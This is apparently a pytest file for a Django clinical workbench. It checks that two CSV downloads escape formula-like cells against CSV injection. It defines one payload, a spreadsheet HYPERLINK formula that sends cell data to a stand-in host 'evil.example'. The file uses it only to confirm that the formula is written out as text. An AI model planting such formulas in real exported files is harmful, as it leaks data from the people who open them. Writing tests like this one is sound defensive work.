"""The workbench's CSV downloads write formula-like cells as text (OWASP CSV injection): the action list and
the QI-time totals."""

from __future__ import annotations

import csv
import io
from datetime import date

import pandas as pd
from django.urls import reverse

from qiloop_web.teamwork.models import TimeEntry

FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"Click")'


def rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode())))


def test_the_action_list_csv_neutralises_an_imported_code(client, universe, measured, monkeypatch):
    table = pd.DataFrame({"patient_id": [7, 9], "reason": ["not met", "not met"], "last code": [FORMULA, "-5"]})
    monkeypatch.setattr("qiloop_web.dashboard.views.action_list", lambda *a, **k: table)
    client.force_login(universe.people["gp"])
    response = client.get(reverse("dashboard:action-list-csv", args=["A00001", "pincer_a"]))
    assert response.status_code == 200
    assert rows(response) == [
        ["patient_id", "reason", "last code"],
        ["7", "not met", "'" + FORMULA],
        ["9", "not met", "-5"],  # a plain number stays a number
    ]


def test_the_qi_time_csv_neutralises_its_cells(client, universe, monkeypatch):
    TimeEntry.objects.create(
        practice=universe.practice, user=universe.people["gp"], role="gp", meeting="Huddle",
        spent_on=date(2026, 1, 5), minutes=60,
    )  # fmt: skip
    monkeypatch.setattr("qiloop_web.teamwork.totals.role_label", lambda role: FORMULA)
    client.force_login(universe.people["receptionist"])
    response = client.get(reverse("teamwork:time-csv", args=["A00001"]))
    assert rows(response) == [
        ["month", "role", "role_label", "minutes", "hours"],
        ["2026-01", "gp", "'" + FORMULA, "60", "1.00"],
    ]
